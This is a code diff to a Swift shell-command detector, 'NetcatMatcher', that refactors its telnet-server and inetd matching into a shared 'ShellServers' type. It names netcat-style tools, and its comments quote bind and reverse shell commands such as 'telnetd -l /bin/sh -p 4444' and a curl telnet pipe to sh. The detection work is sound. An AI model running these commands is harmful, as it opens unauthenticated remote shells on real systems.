@@ -9,12 +9,10 @@ enum NetcatMatcher {
     "cryptcat", "sbd", "dbd", "netcat.traditional", "netcat.openbsd",
   ]
   private static let telnetNames: [StaticString] = ["telnet", "telnet.exe"]
-  private static let serverNames: [StaticString] = ["telnetd", "utelnetd", "in.telnetd"]
   /// All that are looked for.
-  static let toolNames = clientNames + telnetNames + serverNames
+  static let toolNames = clientNames + telnetNames + ShellServers.toolNames
   private static let names = NameTable(clientNames)
   private static let telnets = NameTable(telnetNames)
-  private static let servers = NameTable(serverNames)
 
   /// Programs that a client is told to run besides shells.
   private static let interpreters = NameTable([
@@ -42,7 +40,7 @@ enum NetcatMatcher {
     for tool in shell.tools where found.count < 16 && clients < maximumClients {
       let (index, place) = tool
       let name = shell.name(tool)
-      if servers.contains(name), let one = telnetServer(shell, index, place) { found.append(one) }
+      if ShellServers.names.contains(name), let one = ShellServers.telnet(shell, index, place) { found.append(one) }
       let isTelnet = telnets.contains(name)
       guard isTelnet || names.contains(name), shell.commands[index].words[place].count <= 64 else { continue }
       clients += 1
@@ -51,7 +49,7 @@ enum NetcatMatcher {
       }
     }
     if shell.signs.hasTelnet, let one = curlTelnet(shell) { found.append(one) }
-    if shell.signs.hasService, let one = service(shell) { found.append(one) }
+    if shell.signs.hasService, let one = ShellServers.service(shell) { found.append(one) }
     return found
   }
 
@@ -277,37 +275,6 @@ enum NetcatMatcher {
       return shell.endpoint(words[1], words.dropFirst(2).first(where: Endpoint.isPort) ?? ByteView(""))
     }
     return shell.endpoint(words[0], words[1])
-  }
-
-  /// `telnetd -l /bin/sh -p 4444`: a shell for whoever comes, where a login would ask who it is.
-  private static func telnetServer(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
-    let words = ToolWords(shell, index, after: place)
-    var port: Int?
-    var runs = false
-    for (number, word) in words.words.enumerated() {
-      let value = word.count > 2 ? word.slice(2) : words.word(number + 1)
-      if word.hasPrefix("-l") { runs = runs || ShellWords.isShell(value) }
-      if word.hasPrefix("-p") { port = shell.endpoint(ByteView(""), value).port }
-    }
-    guard runs else { return nil }
-    return ShellMatch(
-      technique: "telnet", endpoint: Endpoint(host: nil, port: port ?? 23), isBind: true,
-      place: shell.commands[index].range.lowerBound)
-  }
-
-  /// A line of inetd.conf: `4444 stream tcp nowait root /bin/sh sh -i`.
-  private static func service(_ shell: ShellText) -> ShellMatch? {
-    for command in shell.commands {
-      guard let place = command.words.firstIndex(where: { $0 == "nowait" }), place >= 3,
-        command.word(place - 2) == "stream", ShellWords.isShell(command.word(place + 2)),
-        ShellWords.isShellReadingInput(command.words[(place + 3)...]) || command.words.count == place + 3
-      else { continue }
-      let port = Endpoint.port(command.word(place - 3)) ?? Endpoint.service(command.word(place - 3))
-      return ShellMatch(
-        technique: "other", language: "inetd", endpoint: Endpoint(host: nil, port: port), isBind: true,
-        place: command.range.lowerBound)
-    }
-    return nil
   }
 
   /// `C='curl -Ns telnet://host:port'; $C | sh | $C`
